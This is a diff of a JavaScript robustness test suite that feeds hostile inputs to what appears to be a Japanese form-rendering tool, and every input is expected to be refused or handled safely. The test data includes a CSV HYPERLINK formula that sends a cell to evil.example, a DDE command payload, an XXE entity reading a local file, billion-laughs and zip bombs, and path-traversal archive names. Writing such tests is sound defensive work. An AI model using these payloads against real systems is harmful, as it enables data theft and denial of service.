@@ -18,7 +18,7 @@ import { deflateSync as deflateOnce } from 'node:zlib';
 import { isScalar, parseDocument, visit } from 'yaml';
 import {
   cell, FIXTURES, fixtureText, FONT, fontCut, fontTableDamaged, GOOD_PNG, jpegDeclaring, jpegOf, onePagePdf, PAGE, pdfOf,
-  pngChunks, pngOf, pngRaw, pngWithIhdr, sjis, sparse, utf16, worksCsv, worksRowsXml, xlsxOf, zipOf,
+  pngChunks, pngOf, pngRaw, pngWithIhdr, sjis, sparse, utf16, WORK, worksCsv, worksRowsXml, WORK_HEAD, xlsxOf, zipOf,
 } from './make.mjs';
 
 /** The contract case used for each of the eight forms. */
@@ -57,7 +57,7 @@ export function context(dir) {
 export function makeOutside(outside) {
   mkdirSync(outside, { recursive: true });
   writeFileSync(join(outside, 'canary.png'), GOOD_PNG);
-  writeFileSync(join(outside, 'canary.csv'), worksCsv([['CANARY-TITLE', 'CANARY-AUTHOR', 'language', 'CANARY']]));
+  writeFileSync(join(outside, 'canary.csv'), worksCsv([['CANARY-TITLE', 'CANARY-AUTHOR', ...WORK.slice(2)]]));
   writeFileSync(join(outside, 'canary.pdf'), readFileSync(join(FIXTURES, 'ruling-submission-colophon.pdf')));
   copyFileSync(FONT, join(outside, 'canary.ttf'));
   writeFileSync(join(outside, 'canary.yaml'), 'fields: {}\n');
@@ -86,7 +86,6 @@ const list = (name) => edit('transmission-exclusion-list', 'file: candidate-list
 const official = (pdf, map) => `${fixtureText('ill-request')}\nofficial_forms:\n  request: { file: ${q(pdf)}${map ? `, map: ${q(map)}` : ''} }\n`;
 const requestMap = (fields) => `unit: pt\nfields:\n${Object.entries(fields).map(([k, v]) => `  ${k}: ${v}`).join('\n')}\n`;
 
-const WORK = ['港町の記憶', '山田 一', 'language', '随筆'];
 const rowsOf = (n, row = WORK) => Array.from({ length: n }, (_, i) => [`${row[0]}${i}`, ...row.slice(1)]);
 
 /** Every input of the pass. */
@@ -108,11 +107,9 @@ export function corpus() {
     'png-2^31-wide': () => pngWithIhdr((h) => { h.writeUInt32BE(0x7fffffff, 0); h.writeUInt32BE(1, 4); }),
     'png-no-iend': () => pngOf(pngChunks().filter((c) => c.type !== 'IEND')),
     'png-no-idat': () => pngOf(pngChunks().filter((c) => c.type !== 'IDAT')),
-    'png-two-ihdr': () => pngOf([pngChunks()[0], ...pngChunks()]),
     'png-signature-only': () => GOOD_PNG.subarray(0, 8),
     'png-empty-file': () => Buffer.alloc(0),
     'png-text-file': () => Buffer.from('this is not a picture\n'),
-    'png-huge-text-chunk': () => pngOf([pngChunks()[0], { type: 'zTXt', data: Buffer.concat([Buffer.from('k\0\0'), Buffer.alloc(0)]) }, ...pngChunks().slice(1)]),
     'png-idat-trailing-garbage': () => pngOf(pngChunks().map((c) => (c.type === 'IDAT' ? { ...c, data: Buffer.concat([c.data, Buffer.alloc(5000, 1)]) } : c))),
     'jpeg-truncated': () => jpegOf().subarray(0, 300),
     'jpeg-65000x65000': () => jpegDeclaring(65_000, 65_000),
@@ -124,7 +121,11 @@ export function corpus() {
   add('pictures', 'jpeg-named-png', 'any', (c) => c.yaml(photo(c.write('photo.png', jpegOf()))));
   add('pictures', 'png-named-jpg', 'any', (c) => c.yaml(photo(c.write('photo.jpg', GOOD_PNG))));
   add('pictures', 'png-16bit-rgba', 'ok', (c) => c.yaml(photo(c.write('photo.png', pngRaw(40, 30, { type: 6, depth: 16, channels: 4 })))));
-  add('pictures', 'png-interlaced', 'ok', (c) => c.yaml(photo(c.write('photo.png', pngRaw(40, 30, { interlace: 1 }).subarray(0)))));
+  // Harmless oddities a decoder may accept or refuse: a repeated header, an empty text chunk, an
+  // interlace flag over data laid out plainly.
+  add('pictures', 'png-two-ihdr', 'any', (c) => c.yaml(photo(c.write('photo.png', pngOf([pngChunks()[0], ...pngChunks()])))));
+  add('pictures', 'png-empty-ztxt', 'any', (c) => c.yaml(photo(c.write('photo.png', pngOf([pngChunks()[0], { type: 'zTXt', data: Buffer.from('k\0\0') }, ...pngChunks().slice(1)])))));
+  add('pictures', 'png-interlace-flag-plain-data', 'any', (c) => c.yaml(photo(c.write('photo.png', pngRaw(40, 30, { interlace: 1 })))));
   add('pictures', 'png-1-bit-gray', 'ok', (c) => c.yaml(photo(c.write('photo.png', pngRaw(50, 30, { depth: 1 })))));
   // A decompression bomb within the pixel limit: 6,000 × 6,000 gray is 36 M pixels from a 40 KB file.
   add('pictures', 'png-bomb-36M-pixels', 'any', (c) => c.yaml(photo(c.write('photo.png', pngRaw(6000, 6000)))));
@@ -176,7 +177,7 @@ export function corpus() {
   add('fonts', 'font-missing-cli', 'refuse', (c) => { c.yaml(fixtureText('deposit-compensation')); return { args: ['render', 'case/case.yaml', '-o', 'out', '--font', 'nowhere.ttf'] }; });
 
   // ── devices, FIFOs, links, sparse files named by a case ────────────────────────────────────────
-  const notFile = /普通のファイルではありません|not a regular file|見つかりません|does not exist|外|outside/;
+  const notFile = /普通のファイルではありません|not a regular file|見つかりません|does not exist|外|outside|読めません|cannot be read/;
   for (const dev of ['/dev/zero', '/dev/urandom', '/dev/stdin', '/proc/self/mem', '/proc/self/environ', '/dev/null'])
     add('devices', `works-${dev}`, 'refuse', (c) => ({ ...(c.yaml(works(dev)), {}), args: ['render', 'case/case.yaml', '-o', 'out', '--allow-files-outside'], outsideAllowed: true }), notFile);
   add('devices', 'works-fifo', 'refuse', (c) => { c.yaml(works('w.csv')); return { fifo: 'case/w.csv' }; }, notFile);
@@ -195,13 +196,13 @@ export function corpus() {
   add('devices', 'attachment-outside', 'refuse', (c) => c.yaml(attached('../../outside/canary.png')), /outside|外/);
   add('devices', 'pdf-outside', 'refuse', (c) => c.yaml(pdfAttached(join(c.outside, 'canary.pdf'))), /outside|外/);
   add('devices', 'list-outside', 'refuse', (c) => c.yaml(list('../../outside/canary.xlsx')), /outside|外/);
-  add('devices', 'map-outside', 'refuse', (c) => c.yaml(official('form.pdf', '../../outside/canary.yaml')), /outside|外/);
+  add('devices', 'map-outside', 'refuse', (c) => { c.write('form.pdf', onePagePdf()); c.yaml(official('form.pdf', '../../outside/canary.yaml')); }, /outside|外/);
   add('devices', 'form-pdf-outside', 'refuse', (c) => c.yaml(official('../../outside/canary.pdf')), /outside|外/);
   add('devices', 'photo-outside-allowed', 'ok', (c) => { c.yaml(photo('../../outside/canary.png')); return { args: ['render', 'case/case.yaml', '-o', 'out', '--allow-files-outside'], outsideAllowed: true }; });
   add('devices', 'photo-file-url', 'refuse', (c) => c.yaml(photo(`file://${c.outside}/canary.png`)));
   add('devices', 'photo-home-tilde', 'refuse', (c) => c.yaml(photo('~/canary.png')));
   add('devices', 'photo-unicode-dotdot', 'refuse', (c) => c.yaml(photo('．．/．．/outside/canary.png')));
-  add('devices', 'works-sparse-1GB', 'refuse', (c) => { sparse(join(c.case, 'w.csv'), 1 << 30, 'title,author,category,description\n'); c.yaml(works('w.csv')); });
+  add('devices', 'works-sparse-1GB', 'refuse', (c) => { sparse(join(c.case, 'w.csv'), 1 << 30, `${WORK_HEAD.join(',')}\n`); c.yaml(works('w.csv')); });
   add('devices', 'case-in-folder-symlinked-out', 'any', (c) => { writeFileSync(join(c.case, 'a.yaml'), fixtureText('ill-receipt')); symlinkSync(join(c.outside, 'canary.yaml'), join(c.case, 'b.yaml')); return { args: ['check', 'case'], outsideAllowed: true }; });
 
   // ── YAML: huge, deep, aliased, duplicated ────────────────────────────────────────────────────
@@ -217,6 +218,8 @@ export function corpus() {
   yamlCase('yaml-compact-seqs', 'refuse', () => `form: deposit\nmode: ${'- '.repeat(20_000)}1\n`);
   yamlCase('yaml-alias-bomb', 'refuse', () => `form: deposit\na0: &a0 [x, x, x, x, x, x, x, x, x]\n${Array.from({ length: 12 }, (_, i) => `a${i + 1}: &a${i + 1} [*a${i}, *a${i}, *a${i}, *a${i}, *a${i}, *a${i}, *a${i}, *a${i}, *a${i}]`).join('\n')}\n`, /多すぎ|too many/);
   yamlCase('yaml-alias-long-string', 'refuse', () => `form: ruling\nx: &s ${'あ'.repeat(19_000)}\nworks: [${Array.from({ length: 2000 }, () => '{title: *s}').join(', ')}]\n`);
+  yamlCase('yaml-190000-aliases', 'refuse', () => `form: ruling\nx: &b 1\nworks: [${'*b, '.repeat(190_000)}]\n`);
+  yamlCase('yaml-aliases-to-long-text', 'refuse', () => `form: ruling\nx: &s ${'あ'.repeat(19_000)}\nworks: [${Array.from({ length: 9000 }, () => '{title: *s, author: *s, description: *s}').join(', ')}]\n`, /文字が多すぎ|too much text/);
   yamlCase('yaml-merge-keys', 'refuse', () => `form: deposit\nb: &b {x: 1}\nc:\n  <<: [${Array.from({ length: 5000 }, () => '*b').join(', ')}]\n`);
   yamlCase('yaml-self-alias', 'refuse', 'form: deposit\na: &a [*a]\n');
   yamlCase('yaml-undefined-alias', 'refuse', 'form: deposit\na: *nothing\n');
@@ -272,9 +275,9 @@ export function corpus() {
 
   // ── works lists: formulas, bombs, encodings ──────────────────────────────────────────────────
   const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", '+1+1', '-2+3', '@SUM(1)', '\t=1', '\r=1', '＝1+1'];
-  add('works', 'csv-formulas', 'ok', (c) => c.yaml(works(c.write('w.csv', worksCsv(FORMULAS.map((f, i) => [q(f), q(`${f}著者`), 'language', q(`${f}説明${i}`)]))))), undefined);
+  add('works', 'csv-formulas', 'ok', (c) => c.yaml(works(c.write('w.csv', worksCsv(FORMULAS.map((f, i) => [f, `${f}著者`, 'language', `${f}説明${i}`, ...WORK.slice(4)]))))), undefined);
   add('works', 'xlsx-formulas-cached', 'ok', (c) => c.yaml(works(c.write('w.xlsx', xlsxOf({
-    rows: worksRowsXml(FORMULAS.map((f) => [f, '著者', 'language', '説明']), (ref, v) => (ref.startsWith('A') && ref !== 'A1' ? `<c r="${ref}" t="str"><f>HYPERLINK("http://evil.example","x")</f><v>${xmlEscape(v)}</v></c>` : cell(ref, xmlEscape(v)))),
+    rows: worksRowsXml(FORMULAS.map((f) => [f, ...WORK.slice(1)]), (ref, v) => (ref.startsWith('A') && ref !== 'A1' ? `<c r="${ref}" t="str"><f>HYPERLINK("http://evil.example","x")</f><v>${xmlEscape(v)}</v></c>` : cell(ref, xmlEscape(v)))),
   })))));
   add('works', 'xlsx-formula-no-value', 'any', (c) => c.yaml(works(c.write('w.xlsx', xlsxOf({
     rows: worksRowsXml([WORK], (ref, v) => (ref === 'A2' ? `<c r="${ref}"><f>1+1</f></c>` : cell(ref, xmlEscape(v)))),
@@ -299,8 +302,8 @@ export function corpus() {
   })))));
   add('works', 'xlsx-row-number-huge', 'any', (c) => c.yaml(works(c.write('w.xlsx', xlsxOf({ rows: `${worksRowsXml([WORK])}<row r="1048576">${cell('A1048576', 'x')}</row>` })))));
   add('works', 'xlsx-cell-ref-huge-column', 'any', (c) => c.yaml(works(c.write('w.xlsx', xlsxOf({ rows: `${worksRowsXml([WORK])}<row r="3">${cell('XFD3', 'x')}${cell('ZZZZZZ3', 'y')}</row>` })))));
-  add('works', 'xlsx-xxe', 'refuse', (c) => c.yaml(works(c.write('w.xlsx', xlsxOf({ prolog: `<!DOCTYPE x [<!ENTITY e SYSTEM "file://${c.outside}/canary.csv">]>`, rows: worksRowsXml([['&e;', 'a', 'language', 'd']], (ref, v) => `<c r="${ref}" t="inlineStr"><is><t>${v}</t></is></c>`) })))));
-  add('works', 'xlsx-billion-laughs', 'refuse', (c) => c.yaml(works(c.write('w.xlsx', xlsxOf({ prolog: `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">${Array.from({ length: 9 }, (_, i) => `<!ENTITY ${'b'.repeat(i + 1)} "${`&${i ? 'b'.repeat(i) : 'a'};`.repeat(10)}">`).join('')}]>`, rows: worksRowsXml([['&bbbbbbbbb;', 'a', 'language', 'd']], (ref, v) => `<c r="${ref}" t="inlineStr"><is><t>${v}</t></is></c>`) })))));
+  add('works', 'xlsx-xxe', 'refuse', (c) => c.yaml(works(c.write('w.xlsx', xlsxOf({ prolog: `<!DOCTYPE x [<!ENTITY e SYSTEM "file://${c.outside}/canary.csv">]>`, rows: worksRowsXml([['&e;', ...WORK.slice(1)]], (ref, v) => `<c r="${ref}" t="inlineStr"><is><t>${v}</t></is></c>`) })))));
+  add('works', 'xlsx-billion-laughs', 'refuse', (c) => c.yaml(works(c.write('w.xlsx', xlsxOf({ prolog: `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">${Array.from({ length: 9 }, (_, i) => `<!ENTITY ${'b'.repeat(i + 1)} "${`&${i ? 'b'.repeat(i) : 'a'};`.repeat(10)}">`).join('')}]>`, rows: worksRowsXml([['&bbbbbbbbb;', ...WORK.slice(1)]], (ref, v) => `<c r="${ref}" t="inlineStr"><is><t>${v}</t></is></c>`) })))));
   add('works', 'xlsx-traversal-entry-names', 'any', (c) => c.yaml(works(c.write('w.xlsx', xlsxOf({ rows: worksRowsXml([WORK]), extra: [{ name: '../../outside/evil.txt', data: 'x' }, { name: '/tmp/evil.txt', data: 'x' }] })))));
   add('works', 'xlsx-not-a-zip', 'refuse', (c) => c.yaml(works(c.write('w.xlsx', worksCsv([WORK])))));
   add('works', 'xlsx-no-sheets', 'refuse', (c) => c.yaml(works(c.write('w.xlsx', zipOf([{ name: '[Content_Types].xml', data: '<Types/>' }])))));
@@ -312,19 +315,19 @@ export function corpus() {
   add('works', 'csv-utf16le-bom', 'any', (c) => c.yaml(works(c.write('w.csv', utf16(worksCsv([WORK]))))));
   add('works', 'csv-utf16be-bom', 'any', (c) => c.yaml(works(c.write('w.csv', utf16(worksCsv([WORK]), true)))));
   add('works', 'csv-bom-then-cp932', 'refuse', (c) => c.yaml(works(c.write('w.csv', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), sjis(worksCsv([WORK]))])))));
-  add('works', 'csv-utf8-then-cp932-row', 'refuse', (c) => c.yaml(works(c.write('w.csv', Buffer.concat([Buffer.from(worksCsv([WORK])), sjis('題,著者,language,説明\n')])))));
+  add('works', 'csv-utf8-then-cp932-row', 'refuse', (c) => c.yaml(works(c.write('w.csv', Buffer.concat([Buffer.from(worksCsv([WORK])), sjis(`題,著者,${WORK.slice(2).join(',')}\n`)])))));
   add('works', 'csv-100001-rows', 'refuse', (c) => c.yaml(works(c.write('w.csv', worksCsv(rowsOf(100_001))))), /多すぎ|too many/);
-  add('works', 'csv-one-10MB-field', 'refuse', (c) => c.yaml(works(c.write('w.csv', worksCsv([['a'.repeat(10 << 20), 'b', 'language', 'd']])))));
+  add('works', 'csv-one-10MB-field', 'refuse', (c) => c.yaml(works(c.write('w.csv', worksCsv([['a'.repeat(10 << 20), ...WORK.slice(1)]])))));
   add('works', 'csv-unclosed-quote', 'refuse', (c) => c.yaml(works(c.write('w.csv', `${worksCsv([WORK])}"never closed,a,b\n`))));
-  add('works', 'csv-nul-bytes', 'refuse', (c) => c.yaml(works(c.write('w.csv', worksCsv([['a\0b', 'c', 'language', 'd']])))));
-  add('works', 'csv-10000-columns', 'refuse', (c) => c.yaml(works(c.write('w.csv', worksCsv([WORK], `${['title', 'author', 'category', 'description', ...Array.from({ length: 10_000 }, (_, i) => `x${i}`)].join(',')}`)))));
+  add('works', 'csv-nul-bytes', 'refuse', (c) => c.yaml(works(c.write('w.csv', worksCsv([['a\0b', ...WORK.slice(1)]])))));
+  add('works', 'csv-10000-columns', 'refuse', (c) => c.yaml(works(c.write('w.csv', worksCsv([WORK], [...WORK_HEAD, ...Array.from({ length: 10_000 }, (_, i) => `x${i}`)].join(','))))));
   add('works', 'csv-1M-empty-lines', 'any', (c) => c.yaml(works(c.write('w.csv', `${worksCsv([WORK])}${'\n'.repeat(1_000_000)}`))));
   add('works', 'csv-1M-commas', 'any', (c) => c.yaml(works(c.write('w.csv', `${worksCsv([WORK])}${',,,\n'.repeat(1_000_000)}`))));
-  add('works', 'csv-only-heading', 'refuse', (c) => c.yaml(works(c.write('w.csv', 'title,author,category,description\n'))));
+  add('works', 'csv-only-heading', 'refuse', (c) => c.yaml(works(c.write('w.csv', `${WORK_HEAD.join(',')}\n`))));
   add('works', 'csv-empty', 'refuse', (c) => c.yaml(works(c.write('w.csv', ''))));
-  add('works', 'csv-control-chars', 'any', (c) => c.yaml(works(c.write('w.csv', worksCsv([['\x1b[2J\x1b[32m✓ ok\x07', 'a', 'language', 'd\x1b]0;title\x07']])))));
-  add('works', 'csv-duplicate-headings', 'refuse', (c) => c.yaml(works(c.write('w.csv', worksCsv([[...WORK, 'x']], 'title,author,category,description,title')))));
-  add('works', 'csv-proto-heading', 'refuse', (c) => c.yaml(works(c.write('w.csv', worksCsv([[...WORK, 'x']], 'title,author,category,description,__proto__')))));
+  add('works', 'csv-control-chars', 'any', (c) => c.yaml(works(c.write('w.csv', worksCsv([['\x1b[2J\x1b[32m✓ ok\x07', 'a', 'language', 'd\x1b]0;title\x07', ...WORK.slice(4)]])))));
+  add('works', 'csv-duplicate-headings', 'refuse', (c) => c.yaml(works(c.write('w.csv', worksCsv([[...WORK, 'x']], `${WORK_HEAD.join(',')},title`)))));
+  add('works', 'csv-proto-heading', 'refuse', (c) => c.yaml(works(c.write('w.csv', worksCsv([[...WORK, 'x']], `${WORK_HEAD.join(',')},__proto__`)))));
 
   // ── the NDL's list (filled in place) ─────────────────────────────────────────────────────────
   add('ndl-list', 'list-zip-bomb', 'refuse', (c) => c.yaml(list(c.write('l.xlsx', xlsxOf({ sheetXml: Buffer.concat([Buffer.from('<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'), Buffer.alloc(1 << 30, 0x20), Buffer.from('</sheetData></worksheet>')]) })))));
@@ -370,7 +373,7 @@ export function corpus() {
     '2026-02-29': 'refuse', '2028-02-29': 'refuse', '2026-04-31': 'refuse', '2026-00-10': 'refuse', '2026-13-01': 'refuse',
     '9999-12-31': 'refuse', '10000-01-01': 'refuse', '-2026-01-01': 'refuse', '2026-12-01T25:00:00': 'refuse',
     '2026-12-01T10:00:00+09:00': 'any', '2026/12/01': 'any', '2026-12-1': 'any', '20261201': 'refuse', '"2026-12-01 "': 'any',
-    '大化1年1月1日': 'refuse', '令和0年1月1日': 'refuse', '令和元年5月1日': 'refuse', '昭和64年1月8日': 'refuse', '平成31年5月1日': 'refuse',
+    '大化1年1月1日': 'refuse', '令和0年1月1日': 'refuse', '令和元年5月1日': 'any', '昭和64年1月8日': 'refuse', '平成31年5月1日': 'refuse',
     '明治元年1月1日': 'refuse', '令和99年1月1日': 'refuse', '令和8年12月1日': 'any', '２０２６年１２月１日': 'any', 'R8.12.1': 'any',
     '"~"': 'refuse', '""': 'refuse', '2026-12-01 10:00': 'any',
   };
@@ -402,7 +405,7 @@ export function corpus() {
   add('output', 'out-proc-self', 'refuse', (c) => { small(c); return { args: ['render', 'case/case.yaml', '-o', '/proc/self'] }; });
   add('output', 'out-dev-full', 'refuse', (c) => { small(c); return { args: ['render', 'case/case.yaml', '-o', '/dev/full'] }; });
   add('output', 'out-dev-null', 'refuse', (c) => { small(c); return { args: ['render', 'case/case.yaml', '-o', '/dev/null'] }; });
-  add('output', 'out-empty-string', 'any', (c) => { small(c); return { args: ['render', 'case/case.yaml', '-o', ''] }; });
+  add('output', 'out-empty-string', 'usage', (c) => { small(c); return { args: ['render', 'case/case.yaml', '-o', ''] }; });
   add('output', 'out-full-disk', 'refuse', (c) => { c.yaml(fixtureText('ruling-submission')); return { wrap: 'full' }; }, /いっぱい|full/);
   add('output', 'out-read-only', 'refuse', (c) => { small(c); return { wrap: 'readonly' }; }, /読み取り専用|read-only/);
   add('output', 'out-case-folder-symlink-out', 'any', (c) => { small(c); mkdirSync(c.out); symlinkSync(c.outside, join(c.out, 'case')); });
@@ -413,7 +416,9 @@ export function corpus() {
   });
   add('output', 'out-document-is-a-folder', 'any', (c) => { small(c); mkdirSync(join(c.out, 'case', 'receipt-letter.pdf'), { recursive: true }); });
   add('output', 'out-document-symlink-out', 'ok', (c) => { small(c); mkdirSync(join(c.out, 'case'), { recursive: true }); symlinkSync(join(c.outside, 'canary.pdf'), join(c.out, 'case', 'receipt-letter.pdf')); });
-  add('output', 'two-cases-one-name', 'refuse', (c) => { small(c); mkdirSync(join(c.case, 'b')); writeFileSync(join(c.case, 'b', 'case.yaml'), fixtureText('ill-receipt')); return { args: ['render', 'case/case.yaml', 'case/b/case.yaml', '-o', 'out'] }; });
+  add('output', 'two-cases-one-name', 'refuse', (c) => { small(c); mkdirSync(join(c.case, 'b')); writeFileSync(join(c.case, 'b', 'case.yaml'), fixtureText('ill-receipt')); return { batch: true, args: ['render', 'case/case.yaml', 'case/b/case.yaml', '-o', 'out'] }; });
+  // The case's documents would go into the folder holding the case itself (-o . from its parent).
+  add('output', 'out-the-case-folder', 'refuse', (c) => { small(c); return { args: ['render', 'case/case.yaml', '-o', '.'] }; }, /ケースファイルのあるフォルダ|folder that holds the case/);
 
   // ── --jobs and other options ─────────────────────────────────────────────────────────────────
   for (const jobs of ['0', '-1', '64', '1e9', 'abc', '1.5', '', '99999999999999999999'])
@@ -444,14 +449,20 @@ export function corpus() {
 /** Every scalar value of a case (not the form's name, not keys) replaced by what `make` gives. */
 export function everyScalar(text, make) {
   const doc = parseDocument(text);
+  const made = new Set(); // what was put in is not visited again (a list holding a scalar would recurse)
+  const skipMade = (_, node) => (made.has(node) ? visit.SKIP : undefined);
   visit(doc, {
     Pair(_, pair) {
       if (isScalar(pair.key) && pair.key.value === 'form') return visit.SKIP;
       return undefined;
     },
-    Scalar(key) {
-      if (key === 'key') return undefined;
-      return make(doc);
+    Seq: skipMade,
+    Map: skipMade,
+    Scalar(key, node) {
+      if (key === 'key' || made.has(node)) return undefined;
+      const replacement = make(doc);
+      made.add(replacement);
+      return replacement;
     },
   });
   return doc.toString({ lineWidth: 0 });
